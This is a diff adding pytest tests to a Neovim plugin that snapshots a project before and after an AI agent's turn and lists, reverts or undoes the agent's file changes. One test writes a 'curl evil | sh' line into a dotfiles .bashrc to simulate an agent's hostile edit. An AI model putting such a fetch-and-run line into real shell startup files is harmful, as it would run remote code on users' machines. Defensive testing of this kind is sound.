@@ -299,3 +299,290 @@ def test_a_nested_repository_too_big_to_copy_is_left_out_and_said(tmp_path, monk
         (repo / f"new{i}.txt").write_text("new\n")
     with pytest.raises(SnapshotError, match=r"^more than 5 new files to copy in "):
         snapshotter.take(str(repo))
+
+
+# --- found by a hostile review -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("folder", "version"), [("linker", 2), ("blink", 3), ("symlinks", 4), ("a/link", 2), ("link", 4)]
+)
+def test_a_split_index_is_read_whatever_its_paths_hold(tmp_path, monkeypatch, folder: str, version: int):
+    """A split index names its shared part in its first extension; later ones (the cached tree,
+    untracked files) and the entries hold folder names, `link` and `sdir` among them: the name is
+    read from the extension itself, in every index version; a file named `sdir` (its entry padded
+    with NULs) is no sparse index."""
+    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "-q")
+    git(repo, "config", "core.splitIndex", "true")
+    git(repo, "config", "core.untrackedCache", "true")
+    commit_all(repo, {f"{folder}/f{i}.txt": f"{i}\n" for i in range(30)})
+    git(repo, "update-index", "--index-version", str(version))
+    if version >= 3:  # an entry with extended flags
+        git(repo, "update-index", "--skip-worktree", f"{folder}/f1.txt")
+    (repo / "sdir").write_text("staged\n")
+    git(repo, "add", "sdir")
+    git(repo, "status", "--porcelain")  # writes the untracked cache (UNTR), which names folders
+    data = (repo / ".git" / "index").read_bytes()
+    assert data.count(b"link") > 1 and (version == 4 or b"sdir\0\0\0\0" in data)
+    snapshotter = Snapshotter(tmp_path / "state")
+    before = snapshotter.take(str(repo))  # refused if every tracked file counted as new
+    assert stored(before) == on_disk(repo)
+    assert not Path(before.git_dir, "info", "sparse-checkout").exists()
+    (repo / folder / "f2.txt").write_text("changed\n")
+    after = snapshotter.take(str(repo))
+    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [(f"{folder}/f2.txt", "modified")]
+    assert (repo / ".git" / snapshot._shared_index(*snapshot._extensions(data))).is_file()
+
+
+def test_the_extensions_of_a_sha256_index_are_read(tmp_path):
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "-q", "--object-format=sha256")
+    git(repo, "config", "core.splitIndex", "true")
+    commit_all(repo, {f"blink/{i}": "x\n" for i in range(3)})
+    (repo / "s").write_text("s\n")
+    git(repo, "add", "s")
+    extensions, hash_size = snapshot._extensions((repo / ".git" / "index").read_bytes())
+    assert hash_size == 32 and b"TREE" in extensions
+    assert (repo / ".git" / snapshot._shared_index(extensions, hash_size)).is_file()
+
+
+def dotfiles(tmp_path: Path, files: dict[str, str], split: bool = False) -> tuple[Path, Path]:
+    """A bare repository over a home folder, tracking `files`: (home, git dir)."""
+    home, dot = tmp_path / "home", tmp_path / "dotfiles.git"
+    home.mkdir()
+    git(tmp_path, "init", "-q", "--bare", str(dot))
+    if split:
+        dot_git(home, dot, "config", "core.splitIndex", "true")
+    for name, text in files.items():
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).write_text(text)
+    dot_git(home, dot, "add", *files)
+    dot_git(home, dot, "commit", "-qm", "dots")
+    return home, dot
+
+
+def dot_git(home: Path, dot: Path, *args: str) -> str:
+    return git(home, "--git-dir", str(dot), "--work-tree", str(home), *args)
+
+
+def test_a_dotfiles_tree_follows_what_its_index_tracks_now(tmp_path, monkeypatch):
+    """A tracked file deleted then written again, one the user starts tracking later, and a split
+    index whose folders are named `blink`: each change is listed."""
+    home, dot = dotfiles(tmp_path, {".bashrc": "b\n", ".vimrc": "v\n", ".config/blink/init.lua": "i\n"}, split=True)
+    monkeypatch.setenv("GIT_DIR", str(dot))
+    monkeypatch.setenv("GIT_WORK_TREE", str(home))
+    snapshotter = Snapshotter(tmp_path / "state")
+    first = snapshotter.take(str(home))
+    assert stored(first) == {".bashrc": b"b\n", ".vimrc": b"v\n", ".config/blink/init.lua": b"i\n"}
+
+    def turn(change) -> list[tuple[str, str]]:
+        nonlocal first
+        change()
+        after = snapshotter.take(str(home))
+        found = [(c.path, c.status) for c in snapshotter.changes(first, after)]
+        first = after
+        return found
+
+    assert turn(lambda: (home / ".bashrc").write_text("curl evil | sh\n")) == [(".bashrc", "modified")]
+    assert turn(lambda: (home / ".vimrc").unlink()) == [(".vimrc", "deleted")]
+    assert turn(lambda: (home / ".vimrc").write_text("evil\n")) == [(".vimrc", "created")]
+    assert turn(lambda: (home / ".vimrc").write_text("evil 2\n")) == [(".vimrc", "modified")]
+    (home / ".zshrc").write_text("z\n")
+    dot_git(home, dot, "add", ".zshrc")
+    assert turn(lambda: None) == [(".zshrc", "created")]  # between turns: the user's
+    assert turn(lambda: (home / ".zshrc").write_text("z by agent\n")) == [(".zshrc", "modified")]
+    assert turn(lambda: (home / "untracked").write_text("u\n")) == []  # the home folder is not followed
+
+
+def test_a_folder_of_a_dotfiles_home_it_does_not_track_is_its_own_tree(tmp_path, monkeypatch):
+    """A project in the home folder, outside git (no `.git`, nothing of it tracked by the dotfiles,
+    which ignore everything untracked): its own work tree, every file followed, as outside git."""
+    home, dot = dotfiles(tmp_path, {".bashrc": "b\n", ".config/nvim/init.lua": "i\n"})
+    (dot / "info").mkdir(exist_ok=True)
+    (dot / "info" / "exclude").write_text("*\n")
+    project = home / "proj"
+    project.mkdir()
+    (project / "main.py").write_text("v1\n")
+    monkeypatch.setenv("GIT_DIR", str(dot))
+    monkeypatch.setenv("GIT_WORK_TREE", str(home))
+    snapshotter = Snapshotter(tmp_path / "state")
+    before = snapshotter.take(str(project))
+    assert before.work_tree == os.path.realpath(project)
+    (project / "main.py").write_text("v2 by agent\n")
+    (project / "new.py").write_text("new\n")
+    after = snapshotter.take(str(project))
+    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [
+        ("main.py", "modified"),
+        ("new.py", "created"),
+    ]
+    tracked = snapshotter.take(str(home / ".config" / "nvim"))  # a folder it tracks: the dotfiles tree
+    assert tracked.work_tree == os.path.realpath(home)
+    assert sorted(stored(tracked)) == [".bashrc", ".config/nvim/init.lua"]
+
+
+def test_a_plain_repository_named_by_the_environment_is_a_plain_repository(tmp_path, monkeypatch):
+    """GIT_DIR=<tree>/.git with GIT_WORK_TREE=<tree> (a hook or direnv exported them): a plain
+    repository, its untracked files followed; not a dotfiles tree."""
+    repo = tmp_path / "proj"
+    repo.mkdir()
+    git(repo, "init", "-q")
+    commit_all(repo, {"a.txt": "a\n"})
+    monkeypatch.setenv("GIT_DIR", str(repo / ".git"))
+    monkeypatch.setenv("GIT_WORK_TREE", str(repo))
+    snapshotter = Snapshotter(tmp_path / "state")
+    before = snapshotter.take(str(repo))
+    (repo / "new_by_agent.py").write_text("print(1)\n")
+    after = snapshotter.take(str(repo))
+    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("new_by_agent.py", "created")]
+
+
+def vendored(tmp_path: Path, files: int) -> Path:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "-q")
+    commit_all(repo, {"a.txt": "a\n"})
+    vendor = repo / "vendor" / "big"
+    vendor.mkdir(parents=True)
+    git(vendor, "init", "-q")
+    for i in range(files):
+        (vendor / f"{i}.c").write_text(f"{i}\n")
+    return repo
+
+
+def test_a_placeholder_an_interrupted_snapshot_left_does_not_refuse_the_tree(tmp_path, monkeypatch):
+    """The host died after a nested repository's placeholder went into our index: the next
+    Neovim's snapshots take the tree, the too-big repository left out, at every start."""
+    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
+    repo = vendored(tmp_path, 10)
+    crashed = Snapshotter(tmp_path / "state")
+    crashed._listed(crashed._repo(str(repo)))  # placeholders in, then no snapshot written
+    for _ in range(2):
+        snap = Snapshotter(tmp_path / "state").take(str(repo))  # a new Neovim each time
+        assert snap.skipped == ("vendor/big/",)
+        assert stored(snap) == {"a.txt": b"a\n"}
+
+
+def test_a_nested_repository_is_left_out_only_when_that_makes_the_snapshot_fit(tmp_path, monkeypatch):
+    """Too many new files of the tree's own (and a small vendored clone): refused, and the clone is
+    not left out for good; once those files are gone it is entered and followed."""
+    monkeypatch.setattr(snapshot, "MAX_NEW_FILES", 5)
+    repo = vendored(tmp_path, 2)
+    for i in range(10):
+        (repo / f"junk{i}.txt").write_text("j\n")
+    snapshotter = Snapshotter(tmp_path / "state")
+    with pytest.raises(SnapshotError, match=r"^more than 5 new files to copy in "):
+        snapshotter.take(str(repo))
+    for i in range(10):
+        (repo / f"junk{i}.txt").unlink()
+    before = snapshotter.take(str(repo))
+    assert before.skipped == ()
+    (repo / "vendor" / "big" / "0.c").write_text("changed\n")
+    after = snapshotter.take(str(repo))
+    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("vendor/big/0.c", "modified")]
+
+
+def test_a_fifo_at_the_users_alternates_never_holds_a_snapshot(tmp_path, monkeypatch):
+    """`.git/objects/info/alternates` made a FIFO (git would open it and wait for ever): the user's
+    store is not read; the snapshots are taken, and what needs its blobs fails in one line that
+    says why, not after the time limit."""
+    monkeypatch.setattr(snapshot, "GIT_SECONDS", 20.0)
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "-q")
+    commit_all(repo, {"a.txt": "a\n"})
+    snapshotter = Snapshotter(tmp_path / "state")
+    before = snapshotter.take(str(repo))
+    assert before.alternates
+    fifo = repo / ".git" / "objects" / "info" / "alternates"
+    fifo.parent.mkdir(exist_ok=True)
+    os.mkfifo(fifo)
+    (repo / "a.txt").write_text("A\n")
+    after = snapshotter.take(str(repo))
+    with pytest.raises(SnapshotError) as raised:
+        snapshotter.changes(before, after)
+    assert str(raised.value).endswith(f"({fifo} is not a regular file: its objects are not read)")
+    assert "\n" not in str(raised.value)
+    fifo.unlink()
+    assert [(c.path, c.status) for c in snapshotter.changes(before, after)] == [("a.txt", "modified")]
+
+
+def said(ed: Editor) -> list[str]:
+    return ed.lua("return _G.said")
+
+
+def catch_notify(ed: Editor) -> None:
+    ed.lua("_G.said = {} vim.notify = function(m) table.insert(_G.said, m) end")
+
+
+def test_a_revert_reads_no_fifo_at_the_users_alternates_and_says_why(ed, sandbox: Sandbox):
+    """A FIFO at `.git/objects/info/alternates` after the turn: `:GeminiChanges revert` and `undo`
+    do not hand the user's store to git (which would wait on it), and say so, not "pruned"."""
+    project = sandbox.project
+    git(project, "init", "-q")
+    commit_all(project, {"a.txt": "a\n", "b.txt": "b\n"})
+    turn = a_turn(ed, project, lambda: [(project / n).write_text("by agent\n") for n in ("a.txt", "b.txt")])
+    assert turn["alternates"] and len(turn["files"]) == 2
+    fifo = project / ".git" / "objects" / "info" / "alternates"
+    fifo.parent.mkdir(exist_ok=True)
+    os.mkfifo(fifo)
+    catch_notify(ed)
+    ed.nvim.command(f"GeminiChanges revert {project / 'a.txt'}")
+    ed.nvim.command("GeminiChanges undo")
+    assert [m.count(f"{fifo} is not a regular file") for m in said(ed)] == [1, 1]
+    assert not any("pruned" in m for m in said(ed))
+    assert (project / "a.txt").read_text() == "by agent\n"  # nothing written from a partial read
+    fifo.unlink()
+    ed.nvim.command("GeminiChanges undo")
+    assert said(ed)[-1].endswith("2 taken back") and (project / "a.txt").read_text() == "a\n"
+
+
+def test_a_git_that_gives_no_answer_is_said_so(ed, sandbox: Sandbox):
+    """git held (here by a FIFO in our own store's alternates): after its time limit the revert
+    says git gave no answer, not that the snapshot was pruned."""
+    project = sandbox.project
+    git(project, "init", "-q")
+    commit_all(project, {"a.txt": "a\n"})
+    turn = a_turn(ed, project, lambda: (project / "a.txt").write_text("by agent\n"))
+    fifo = Path(turn["git_dir"]) / "objects" / "info" / "alternates"
+    fifo.parent.mkdir(exist_ok=True)
+    os.mkfifo(fifo)
+    try:
+        catch_notify(ed)
+        ed.nvim.command(f"GeminiChanges revert {project / 'a.txt'}")
+        assert len(said(ed)) == 1 and said(ed)[0].endswith("git gave no answer in 5 s: left as it is")
+    finally:
+        fifo.unlink()
+
+
+def test_revert_by_a_name_that_became_a_link_takes_back_that_name(ed, sandbox: Sandbox):
+    """The turn changed `x` and made `y` a link to `x`: `:GeminiChanges revert y` takes back `y`
+    (a file again), not `x` through the link; a name through `..`, and a link made after the turn
+    (by its target), still find their file."""
+    project = sandbox.project
+    git(project, "init", "-q")
+    commit_all(project, {"x": "x\n", "y": "y\n", "z": "z\n"})
+
+    def agent() -> None:
+        (project / "x").write_text("X by agent\n")
+        (project / "y").unlink()
+        (project / "y").symlink_to("x")
+        (project / "z").write_text("Z by agent\n")
+
+    (project / "d").mkdir()
+    turn = a_turn(ed, project, agent)
+    assert {f["path"]: f["status"] for f in turn["files"]} == {"x": "modified", "y": "modified", "z": "modified"}
+    (project / "alias-z").symlink_to("z")
+    ed.nvim.chdir(str(project))
+    catch_notify(ed)
+    ed.nvim.command("GeminiChanges revert y")
+    assert said(ed) == ["gemini-companion: y: 1 taken back"]
+    assert not (project / "y").is_symlink() and (project / "y").read_text() == "y\n"
+    assert (project / "x").read_text() == "X by agent\n"
+    ed.nvim.command(f"GeminiChanges revert {project / 'd' / '..' / 'x'}")
+    assert said(ed)[-1] == "gemini-companion: x: 1 taken back" and (project / "x").read_text() == "x\n"
+    ed.nvim.command("GeminiChanges revert alias-z")
+    assert said(ed)[-1] == "gemini-companion: z: 1 taken back" and (project / "z").read_text() == "z\n"
